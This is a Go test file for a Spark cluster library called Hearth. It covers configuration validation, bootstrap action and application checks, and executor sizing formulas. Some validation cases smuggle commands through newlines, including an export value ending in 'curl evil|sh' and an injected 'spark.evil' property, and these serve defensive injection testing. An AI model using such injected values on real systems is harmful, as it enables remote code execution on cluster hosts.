package hearth_test

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/hearthcluster/hearth"
)

func TestValidateConfigurations(t *testing.T) {
	for _, tc := range []struct {
		name  string
		in    []hearth.Configuration
		field string // "" means valid
		want  string
	}{
		{"valid", []hearth.Configuration{
			{Classification: "spark", Properties: map[string]string{"maximizeResourceAllocation": "true"}},
			{Classification: "spark-defaults", Properties: map[string]string{"spark.executor.memory": "2g"}},
			{Classification: "spark-env", Configurations: []hearth.Configuration{{Classification: "export", Properties: map[string]string{"PYSPARK_PYTHON": "python3"}}}},
			{Classification: "spark-log4j2", Properties: map[string]string{"rootLogger.level": "warn"}},
			{Classification: "spark-metrics", Properties: map[string]string{"*.sink.console.class": "org.apache.spark.metrics.sink.ConsoleSink"}},
			{Classification: "spark-hive-site", Properties: map[string]string{"hive.metastore.uris": "thrift://x:9083"}},
		}, "", ""},
		{"unknown classification", []hearth.Configuration{{Classification: "yarn-site"}}, "configurations[0].Classification", "spark-defaults"},
		{"spark takes only maximize", []hearth.Configuration{{Classification: "spark", Properties: map[string]string{"spark.x": "1"}}}, "configurations[0].Properties", "spark-defaults"},
		{"maximize not boolean", []hearth.Configuration{{Classification: "spark", Properties: map[string]string{"maximizeResourceAllocation": "yes"}}}, "configurations[0].Properties.maximizeResourceAllocation", "true or false"},
		{"spark-env properties at top", []hearth.Configuration{{Classification: "spark-env", Properties: map[string]string{"A": "b"}}}, "configurations[0].Properties", "export"},
		{"spark-env nests other", []hearth.Configuration{{Classification: "spark-env", Configurations: []hearth.Configuration{{Classification: "other"}}}}, "configurations[0].Configurations[0].Classification", "export"},
		{"bad env name", []hearth.Configuration{{Classification: "spark-env", Configurations: []hearth.Configuration{{Classification: "export", Properties: map[string]string{"1BAD": "x"}}}}}, "configurations[0].Configurations[0].Properties", "shell variable"},
		{"nested elsewhere", []hearth.Configuration{{Classification: "spark-defaults", Configurations: []hearth.Configuration{{Classification: "export"}}}}, "configurations[0].Configurations", "no nested"},
		{"empty key", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{" ": "x"}}}, "configurations[0].Properties", "non-empty"},
		{"tab in a value", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.x": "a\tb"}}}, "", ""},
		{"newline in a value", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.driver.extraJavaOptions": "-Da=1\nspark.evil=1"}}},
			`configurations[0].Properties["spark.driver.extraJavaOptions"]`, "spark-defaults property values must be single lines"},
		{"carriage return in a value", []hearth.Configuration{{Classification: "spark-log4j2", Properties: map[string]string{"rootLogger.level": "warn\r"}}},
			`configurations[0].Properties["rootLogger.level"]`, "spark-log4j2"},
		{"NUL in a value", []hearth.Configuration{{Classification: "spark-hive-site", Properties: map[string]string{"hive.metastore.uris": "thrift://x\x00"}}},
			`configurations[0].Properties["hive.metastore.uris"]`, "spark-hive-site"},
		{"newline in an export", []hearth.Configuration{{Classification: "spark-env", Configurations: []hearth.Configuration{{Classification: "export", Properties: map[string]string{"PYSPARK_PYTHON": "python3\ncurl evil|sh"}}}}},
			`configurations[0].Configurations[0].Properties["PYSPARK_PYTHON"]`, "spark-env export"},
		{"newline in a name", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.a\nspark.b": "x"}}}, "configurations[0].Properties", "control characters"},
		{"turning RPC authentication off", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.authenticate": "false"}}}, "configurations[0].Properties", "Hearth sets this itself"},
		{"replacing the UI filter", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.ui.filters": "x.Open"}}}, "configurations[0].Properties", "Hearth sets this itself"},
		{"network encryption is the user's call", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.network.crypto.enabled": "true"}}}, "", ""},
		{"NUL in a name", []hearth.Configuration{{Classification: "spark-metrics", Properties: map[string]string{"a\x00": "x"}}}, "configurations[0].Properties", "spark-metrics"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := hearth.ValidateConfigurations("configurations", tc.in)
			if tc.field == "" {
				if err != nil {
					t.Fatal(err)
				}
				return
			}
			var ve *hearth.ValidationError
			if !errors.As(err, &ve) || ve.Field != tc.field || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("got %v; want field %s mentioning %q", err, tc.field, tc.want)
			}
		})
	}
}

func TestBootstrapActionsAndApplications(t *testing.T) {
	for _, tc := range []struct {
		name    string
		actions []hearth.BootstrapAction
		apps    []hearth.Application
		field   string
	}{
		{"no name", []hearth.BootstrapAction{{ScriptBootstrapAction: hearth.ScriptAction{Path: "/x.sh"}}}, nil, "bootstrap-actions[0].Name"},
		{"no path", []hearth.BootstrapAction{{Name: "a"}}, nil, "bootstrap-actions[0].Path"},
		{"relative path", []hearth.BootstrapAction{{Name: "a", ScriptBootstrapAction: hearth.ScriptAction{Path: "x.sh"}}}, nil, "bootstrap-actions[0].Path"},
		{"s3 bucket too short", []hearth.BootstrapAction{{Name: "a", ScriptBootstrapAction: hearth.ScriptAction{Path: "s3://b/x.sh"}}}, nil, "bootstrap-actions[0].Path"},
		{"s3 no key", []hearth.BootstrapAction{{Name: "a", ScriptBootstrapAction: hearth.ScriptAction{Path: "s3://bucket/"}}}, nil, "bootstrap-actions[0].Path"},
		{"too many", make17(), nil, "bootstrap-actions"},
		{"unknown application", nil, []hearth.Application{{Name: "Zeppelin"}}, "applications[0].Name"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, _, err := hearth.NewCluster(hearth.ClusterSpec{
				InstanceGroups:   []hearth.InstanceGroupConfig{{InstanceGroupType: hearth.RoleMaster, InstanceType: "local.small", InstanceCount: 1}},
				BootstrapActions: tc.actions, Applications: tc.apps,
			}, "4.0.1", time.Now())
			var ve *hearth.ValidationError
			if !errors.As(err, &ve) || ve.Field != tc.field {
				t.Fatalf("got %v; want a validation error on %s", err, tc.field)
			}
		})
	}
	c, _, err := hearth.NewCluster(hearth.ClusterSpec{
		InstanceGroups: []hearth.InstanceGroupConfig{{InstanceGroupType: hearth.RoleMaster, InstanceType: "local.small", InstanceCount: 1}},
		Applications:   []hearth.Application{{Name: "jupyter"}, {Name: "SPARK"}, {Name: "sparkconnect"}},
	}, "4.0.1", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, a := range c.Applications {
		names = append(names, a.Name)
	}
	if strings.Join(names, ",") != "Spark,JupyterLab,SparkConnect" {
		t.Errorf("applications %v", names)
	}
}

func make17() []hearth.BootstrapAction {
	out := make([]hearth.BootstrapAction, 17)
	for i := range out {
		out[i] = hearth.BootstrapAction{Name: "a", ScriptBootstrapAction: hearth.ScriptAction{Path: "/x.sh"}}
	}
	return out
}

// TestExecutorDefaults checks the documented formulas (docs/sizing.md).
func TestExecutorDefaults(t *testing.T) {
	cluster := func(master, worker string, n int) *hearth.Cluster {
		c, _, err := hearth.NewCluster(hearth.ClusterSpec{InstanceGroups: []hearth.InstanceGroupConfig{
			{InstanceGroupType: hearth.RoleMaster, InstanceType: master, InstanceCount: 1},
			{InstanceGroupType: hearth.RoleCore, InstanceType: worker, InstanceCount: n},
		}}, "4.0.1", time.Now())
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	for _, tc := range []struct {
		name     string
		c        *hearth.Cluster
		maximize bool
		want     map[string]string
	}{
		// m5.xlarge worker: 4 cores, 12288 MiB. heap = min(12288-384, 12288*10/11) = 11170.
		{"maximize m5.xlarge", cluster("m5.xlarge", "m5.xlarge", 2), true, map[string]string{
			"spark.executor.cores": "4", "spark.executor.memory": "11170m", "spark.executor.instances": "2",
			"spark.default.parallelism": "16", "spark.driver.memory": "11170m"}},
		// local.small worker: 1 core, 1024 MiB: heap = min(640, 930) = 640; master local.small: 768-512 -> 512.
		{"maximize local.small", cluster("local.small", "local.small", 2), true, map[string]string{
			"spark.executor.cores": "1", "spark.executor.memory": "640m", "spark.executor.instances": "2",
			"spark.default.parallelism": "4", "spark.driver.memory": "512m"}},
		// m5.4xlarge worker: 16 cores -> 4 executors of 4 cores, 49152/4 = 12288 each -> 11170.
		{"default m5.4xlarge", cluster("m5.xlarge", "m5.4xlarge", 1), false, map[string]string{
			"spark.executor.cores": "4", "spark.executor.memory": "11170m"}},
		// local.medium: 2 cores, 2048 MiB -> one executor, min(1664, 1861) = 1664.
		{"default local.medium", cluster("local.small", "local.medium", 2), false, map[string]string{
			"spark.executor.cores": "2", "spark.executor.memory": "1664m"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := hearth.ExecutorDefaults(tc.c, tc.maximize)
			if len(got) != len(tc.want) {
				t.Errorf("got %v, want %v", got, tc.want)
			}
			for k, v := range tc.want {
				if got[k] != v {
					t.Errorf("%s = %q, want %q", k, got[k], v)
				}
			}
		})
	}
}
